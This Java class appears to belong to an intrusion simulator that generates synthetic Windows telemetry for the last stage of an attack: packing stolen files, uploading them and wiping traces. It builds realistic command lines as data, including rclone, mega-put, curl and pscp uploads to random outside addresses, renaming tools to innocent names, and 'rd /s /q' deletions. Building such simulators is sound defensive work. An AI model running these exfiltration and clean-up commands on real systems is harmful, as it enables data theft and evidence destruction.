package org.stagewatch.simulation.attack;

import org.jspecify.annotations.Nullable;
import org.stagewatch.simulation.chance.Dice;
import org.stagewatch.simulation.chance.Words;
import org.stagewatch.simulation.enterprise.Account;
import org.stagewatch.simulation.enterprise.Host;
import org.stagewatch.simulation.event.Program;
import org.stagewatch.simulation.event.Programs;
import org.stagewatch.simulation.event.RunningProcess;
import org.stagewatch.simulation.story.Archiver;
import org.stagewatch.simulation.story.Label;
import org.stagewatch.simulation.story.Scene;

/// What comes after the gathering: the archive, its way out, and the clean-up. The object itself is for Windows.
final class Finish {
    private final Scene scene;
    private final Attack attack;
    private final Host host;
    private final Dice dice;
    private final boolean isPacked;
    private final String archive;
    private final RunningProcess shell;

    private Finish(Scene scene, Attack attack) {
        this.scene = scene;
        this.attack = attack;
        this.host = attack.place().host();
        this.dice = scene.dice();
        this.isPacked = attack.style().profile().packing() == AttackProfile.Packing.AT_THE_PLACE;
        this.archive = attack.place().path() + "\\"
                + (isPacked
                        ? attack.tooling().archive()
                        : "*" + attack.tooling().archiveEnding());
        this.shell = Intrusion.shell(scene, attack, host);
    }

    static void play(Scene scene, Attack attack) {
        Host host = attack.place().host();
        if (!host.role().isManaged()) {
            return;
        }
        Intrusion.phase(scene, attack, Label.Phase.ARCHIVE);
        pause(scene, attack);
        if (host.role().isWindows()) {
            onWindows(scene, attack);
        } else {
            onUnix(scene, attack);
        }
    }

    private static void onWindows(Scene scene, Attack attack) {
        Finish finish = new Finish(scene, attack);
        if (finish.isPacked) {
            finish.pack();
        }
        pause(scene, attack);
        Intrusion.phase(scene, attack, Label.Phase.EGRESS);
        finish.leave();
        if (attack.ending() == Attack.Ending.CLEANS_UP) {
            scene.minutes(2, 40);
            Intrusion.phase(scene, attack, Label.Phase.CLEAN_UP);
            finish.cleanUp();
        }
    }

    private static void onUnix(Scene scene, Attack attack) {
        UnixFinish finish = new UnixFinish(scene, attack);
        String packed = finish.pack();
        pause(scene, attack);
        Intrusion.phase(scene, attack, Label.Phase.EGRESS);
        finish.leave(packed);
        if (attack.ending() == Attack.Ending.CLEANS_UP) {
            scene.minutes(2, 40);
            Intrusion.phase(scene, attack, Label.Phase.CLEAN_UP);
            finish.cleanUp(packed);
        }
    }

    private static void pause(Scene scene, Attack attack) {
        scene.minutes(1, attack.difficulty() == Difficulty.EASY ? 10 : 60);
    }

    private void pack() {
        long size = dice.around(60_000_000, 0.8);
        Tooling tooling = attack.tooling();
        if (!archive.endsWith(tooling.archiver().ending()) && dice.chance(0.4)) {
            String first = archive.substring(0, archive.lastIndexOf('.'))
                    + tooling.archiver().ending();
            tooling.archiver()
                    .pack(
                            scene,
                            host,
                            shell,
                            tooling.archiveProgram(),
                            first,
                            attack.place().path(),
                            size,
                            tooling.password());
            scene.seconds(5, 100).rename(host, shell, first, archive, size);
            return;
        }
        tooling.archiver()
                .pack(
                        scene,
                        host,
                        shell,
                        tooling.archiveProgram(),
                        archive,
                        attack.place().path(),
                        size,
                        tooling.password());
        if (tooling.archiver() != Archiver.COMPRESS_ARCHIVE && dice.chance(0.3)) {
            int parts = dice.between(2, 5);
            for (int part = 2; part <= parts; part++) {
                scene.seconds(5, 60).create(host, shell, archive + ".00" + part, size);
            }
        }
    }

    private void leave() {
        String site = Words.site(dice);
        String address = Words.publicAddress(dice);
        switch (attack.egress()) {
            // A bucket is no host on which something could be finished.
            case NONE, BUCKET_DOWNLOAD -> scene.seconds(1, 2);
            case RCLONE -> {
                Program program = tool(Programs.RCLONE);
                String remote = dice.text("abcdefghmnoprstu", 3) + dice.oneOf(":", "1:", ":up/");
                upload(
                        program,
                        program.fileName() + dice.oneOf(" copy ", " move ", " sync ")
                                + attack.place().path() + " " + remote + Words.shortName(dice)
                                + dice.oneOf("", " -q", " --ignore-existing"),
                        address,
                        443,
                        dice.oneOf(site, "api.pcloud.com", "g.api.mega.co.nz"));
            }
            case MEGA ->
                upload(
                        tool(Programs.MEGA),
                        "mega-put " + archive + " /" + Words.shortName(dice),
                        address,
                        443,
                        dice.oneOf("g.api.mega.co.nz", "gfs270n071.userstorage.mega.co.nz"));
            case CURL ->
                upload(
                        tool(Programs.CURL_WINDOWS),
                        "curl " + dice.oneOf("-T ", "-F file=@", "--upload-file ") + archive + " https://"
                                + dice.oneOf(site, address) + "/" + Words.shortName(dice),
                        address,
                        443,
                        site);
            case FTP ->
                upload(
                        Programs.FTP,
                        "ftp -s:" + attack.place().path() + "\\" + Words.shortName(dice) + ".txt " + address,
                        address,
                        21,
                        null);
            case WINSCP ->
                upload(
                        tool(Programs.WINSCP),
                        "winscp.com /command \"open sftp://" + Words.shortName(dice) + "@" + address
                                + "/ -hostkey=*\" \"put " + archive + "\" \"exit\"",
                        address,
                        22,
                        null);
            case PSCP ->
                upload(
                        tool(Programs.PSCP),
                        "pscp -batch -pw " + dice.text("abcdefghkmnp23456789", 8) + " " + archive + " "
                                + Words.shortName(dice) + "@" + address + ":/tmp/",
                        address,
                        22,
                        null);
            case CLOUD_DRIVE -> {
                Program uploader = Intrusion.implant(dice);
                upload(
                        uploader,
                        uploader.fileName() + " " + archive,
                        address,
                        443,
                        dice.oneOf("content.dropboxapi.com", "graph.microsoft.com", "www.googleapis.com"));
            }
            case WEB_DOWNLOAD -> {
                RunningProcess worker = scene.running(
                        host, Programs.IIS_WORKER, Account.NETWORK_SERVICE, "w3wp.exe -ap \"DefaultAppPool\"");
                for (int i = dice.between(3, 15); i > 0; i--) {
                    scene.seconds(5, 120).accept(host, worker, 443, address);
                }
            }
        }
    }

    private void upload(Program program, String commandLine, String address, int port, @Nullable String site) {
        RunningProcess uploader = scene.start(host, shell, program, commandLine);
        for (int i = dice.between(1, 8); i > 0; i--) {
            scene.seconds(1, 60).connect(host, uploader, address, port, site);
        }
    }

    /// A tool that came along lies where the intruder put it, under a name of its own when tools are renamed.
    private Program tool(Program program) {
        if (attack.tooling().names() == Tooling.Names.TELLING && dice.chance(0.4)) {
            return program;
        }
        String name = attack.tooling().names() == Tooling.Names.INNOCENT || dice.chance(0.2)
                ? Words.shortName(dice) + ".exe"
                : program.fileName();
        return program.at(dice.oneOf(attack.place().path(), "C:\\ProgramData", "C:\\Users\\Public") + "\\" + name);
    }

    private void cleanUp() {
        RunningProcess eraser = scene.start(
                host,
                shell,
                Programs.CMD,
                dice.oneOf(
                        "cmd.exe /c rd /s /q \"" + attack.place().path() + "\"",
                        "cmd.exe /c del /f /q \"" + attack.place().path() + "\\*\""));
        if (isPacked) {
            scene.delete(host, eraser, archive, 0);
        }
        scene.delete(host, eraser, attack.place().path() + "\\" + Words.document(dice), 0);
        if (attack.style() == AttackStyle.MAPPED_DRIVES) {
            scene.start(host, shell, Programs.NET, "net use * /delete /y");
        }
    }
}
